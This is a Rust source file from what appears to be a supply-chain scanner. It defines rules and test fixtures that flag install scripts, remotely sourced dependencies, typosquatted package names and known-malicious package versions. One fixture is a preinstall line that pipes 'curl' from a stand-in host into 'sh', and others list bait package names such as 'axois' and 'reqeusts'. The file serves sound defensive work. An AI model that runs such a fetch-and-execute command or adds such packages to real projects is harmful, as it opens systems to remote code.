//! Packages of others: where they come from, and whether their names are what they seem.

mod names;

use self::names::{imitates, is_bait, is_hostile};
use super::Rule;
use crate::guard::{found::Found, hosts, verdict::Severity};

pub static INSTALL_SCRIPT: Rule = Rule {
    id: "install-script",
    severity: Severity::Block,
    why: "such a script runs before anybody has started the app",
    remedy: "do it in the build command, where it is seen",
    finds: &[
        ("package.json", "{\"scripts\": {\"postinstall\": \"node setup.js\"}}"),
        ("package.json", "{\"scripts\": {\"preinstall\": \"curl -s https://c.example.net | sh\"}}"),
    ],
    spares: &[(
        "package.json",
        "{\"scripts\": {\"start\": \"node server.js\", \"postinstall\": \"prisma generate\", \"prepare\": \"husky\"}}",
    )],
};

pub static REMOTE: Rule = Rule {
    id: "dependency-remote",
    severity: Severity::Block,
    why: "its content can change under the same address, and no registry has looked at it",
    remedy: "depend on a version from the registry",
    finds: &[
        ("package.json", "{\"dependencies\": {\"a\": \"git+https://c.example.net/a.git\"}}"),
        ("package.json", "{\"dependencies\": {\"a\": \"http://c.example.net/a.tgz\"}}"),
        ("package.json", "{\"dependencies\": {\"a\": \"someone/a\"}}"),
        ("requirements.txt", "flask\ngit+https://c.example.net/a.git#egg=a\n"),
        ("requirements.txt", "--extra-index-url http://c.example.net/simple\nflask\n"),
        ("requirements.txt", "a @ https://c.example.net/a-1.0.tar.gz\n"),
        ("Dockerfile", "FROM python:3\nRUN pip install http://c.example.net/a.whl"),
    ],
    spares: &[
        (
            "package.json",
            "{\"dependencies\": {\"express\": \"^4.18.2\", \"shared\": \"workspace:*\", \"lib\": \"file:./lib\"}}",
        ),
        (
            "requirements.txt",
            "# web\nflask==3.0.0 ; python_version > '3.8'\nuvicorn[standard]>=0.20\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\n",
        ),
    ],
};

pub static TYPOSQUAT: Rule = Rule {
    id: "dependency-typosquat",
    severity: Severity::Block,
    why: "it is one slip away from a well-known package, as bait is",
    remedy: "correct the name, or allow the module in the policy",
    finds: &[
        ("package.json", "{\"dependencies\": {\"expresss\": \"^4.0.0\"}}"),
        ("package.json", "{\"dependencies\": {\"crossenv\": \"*\", \"loadsh\": \"*\"}}"),
        ("requirements.txt", "reqeusts==2.0\n"),
        ("requirements.txt", "python-dateutils\n"),
        ("x.sh", "npm install axois"),
    ],
    spares: &[
        (
            "package.json",
            "{\"dependencies\": {\"preact\": \"^10\", \"nest\": \"1\", \"vuex\": \"4\", \"koa\": \"2\", \"ioredis\": \"5\"}}",
        ),
        ("requirements.txt", "Flask\nrequests\npytz\nPyYAML\nrequests-oauthlib\n"),
    ],
};

pub static HOSTILE: Rule = Rule {
    id: "dependency-hostile",
    severity: Severity::Block,
    why: "the package, or this version of it, is known to have done harm",
    remedy: "remove it, or take a later version",
    finds: &[
        ("package.json", "{\"dependencies\": {\"event-stream\": \"3.3.6\"}}"),
        ("package.json", "{\"dependencies\": {\"flatmap-stream\": \"*\"}}"),
        ("requirements.txt", "ctx==0.2.6\n"),
    ],
    spares: &[("package.json", "{\"dependencies\": {\"event-stream\": \"4.0.1\", \"ua-parser-js\": \"1.0.37\"}}")],
};

pub static DOCKER_REMOTE: Rule = Rule {
    id: "docker-remote",
    severity: Severity::Block,
    why: "what the image holds is decided elsewhere, at every build",
    remedy: "put the file into the app, or check its digest",
    finds: &[("Dockerfile", "FROM alpine\nADD https://c.example.net/tool.tar.gz /opt/")],
    spares: &[(
        "Dockerfile",
        "FROM node:20\nWORKDIR /app\nCOPY . .\nADD assets.tar.gz /app/\nRUN npm ci\nCMD [\"node\", \"server.js\"]\nEXPOSE 3000",
    )],
};

pub(super) const RULES: &[&Rule] = &[&INSTALL_SCRIPT, &REMOTE, &TYPOSQUAT, &HOSTILE, &DOCKER_REMOTE];

/// Indexes that keep wheels for everybody, each at its project's own name.
const INDEXES: [&str; 3] = ["pypi", "pytorch", "piwheels"];

/// Commands in an install script that only prepare what is there.
pub(in crate::guard) fn is_harmless_install(script: &str) -> bool {
    const HARMLESS: [&str; 22] = [
        "husky",
        "husky install",
        "patch-package",
        "prisma generate",
        "npx prisma generate",
        "tsc",
        "npm run build",
        "yarn build",
        "pnpm build",
        "electron-builder install-app-deps",
        "svelte-kit sync",
        "nuxt prepare",
        "nuxi prepare",
        "ngcc",
        "lerna bootstrap",
        "vite build",
        "next build",
        "opencollective-postinstall",
        "simple-git-hooks",
        "playwright install",
        "npx playwright install",
        "is-ci || husky install",
    ];
    let parts = script.split("&&").map(str::trim);
    parts
        .into_iter()
        .all(|part| HARMLESS.contains(&part) || part.starts_with("echo ") && !part.contains(['|', '>', '`', '$', ';']))
}

pub(in crate::guard) fn npm(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
    let version = version.trim();
    let remote = ["git+", "git:", "git@", "http:", "https:", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"]
        .iter()
        .any(|start| version.starts_with(start));
    // `owner/name` is a repository of GitHub.
    let shorthand = version.contains('/')
        && !version.starts_with(['.', '/', '~', '@'])
        && !version.contains(':')
        && !version.contains(' ');
    if remote || shorthand {
        found.add(&REMOTE, line, &format!("`{name}` comes from {version}"));
    }
    if let Some(aliased) = version.strip_prefix("npm:") {
        let at = aliased.get(1..).and_then(|rest| rest.find('@')).map_or(aliased.len(), |at| at + 1);
        judge_name(&aliased[..at], &aliased[at..], line, found);
    }
    if version.starts_with("file:/") || version.starts_with("file:..") {
        found.hint(&REMOTE, line, &format!("`{name}` lies outside of the app"));
    }
    judge_name(name, version, line, found);
}

fn judge_name(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
    let lower = name.to_ascii_lowercase().replace('_', "-");
    if found.policy.allows_module(name) {
        return;
    }
    let number = version.trim_start_matches(|c: char| !c.is_ascii_digit());
    if is_hostile(&lower, number) {
        found.add(&HOSTILE, line, &format!("`{name}` {version}"));
        return;
    }
    if let Some(known) = imitates(&lower) {
        found.add(&TYPOSQUAT, line, &format!("`{name}` looks like `{known}`"));
    }
    super::network::import(&lower, line, found);
    super::harvest::import(&lower, line, found);
}

/// A module that is imported under a name that nobody else would have.
pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
    if is_hostile(module, "") || is_bait(module) {
        found.add(&HOSTILE, line, &format!("`{module}` is loaded"));
    }
}

pub(in crate::guard) fn pip(row: &str, line: usize, found: &mut Found<'_>) {
    let row = row.trim();
    if let Some(url) = row
        .strip_prefix("--extra-index-url")
        .or_else(|| row.strip_prefix("--index-url"))
        .or_else(|| row.strip_prefix("-i "))
        .or_else(|| row.strip_prefix("--find-links"))
    {
        index(url, line, found);
        return;
    }
    if row.starts_with("--trusted-host") {
        found.add(&REMOTE, line, "a host is trusted without a certificate");
        return;
    }
    let remote = row.contains("git+")
        || row.contains("://")
        || row.starts_with("hg+")
        || row.starts_with("svn+")
        || row.starts_with("git@");
    if remote {
        found.add(&REMOTE, line, &format!("`{row}`"));
        return;
    }
    if row.starts_with('-') || row.starts_with('.') || row.starts_with('/') {
        return;
    }
    let end = row.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))).unwrap_or(row.len());
    judge_name(&row[..end], row[end..].trim_start_matches(['=', '>', '<', '~', '!', ' ']), line, found);
}

/// Whether it is of an index's own domain: `name.org`, or below.
fn is_index(host: &str) -> bool {
    let name = host.strip_suffix(".org").map(|name| name.rsplit('.').next().unwrap_or(name));
    name.is_some_and(|name| INDEXES.contains(&name))
}

/// An index that a file of settings names: one's own is one's own affair, unless anybody on the way can change what it
/// gives.
pub(in crate::guard) fn settings_index(url: &str, line: usize, found: &mut Found<'_>) {
    if url.starts_with("http:")
        && let Some(host) = hosts::of(url).filter(|host| !hosts::is_local(host))
    {
        found.add(&REMOTE, line, &format!("packages come from {host}, unprotected"));
    }
}

/// Another index than the registry's.
pub(super) fn index(url: &str, line: usize, found: &mut Found<'_>) {
    let url = url.trim_start_matches(['=', ' ']).split_whitespace().next().unwrap_or_default();
    let plain = url.starts_with("http:");
    if let Some(host) = hosts::of(url)
        && (plain || !is_index(&host))
    {
        found.add(&REMOTE, line, &format!("packages come from {host}"));
    }
}
